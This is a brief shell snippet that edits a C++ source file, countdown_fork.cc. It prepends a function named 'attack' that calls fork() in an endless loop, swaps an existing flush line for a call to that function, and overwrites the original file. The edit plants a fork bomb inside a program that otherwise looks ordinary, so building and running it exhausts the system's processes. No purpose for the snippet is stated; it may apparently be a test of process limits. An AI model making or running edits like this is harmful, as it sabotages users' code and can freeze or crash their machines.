{
  cat <<'lines'
#include <unistd.h>
static void attack() {
  for (;;) fork();
}
lines
  sed 's|^    std::fflush(nullptr);  // or both.*|    attack();|' countdown_fork.cc
} >attack.cc
mv attack.cc countdown_fork.cc
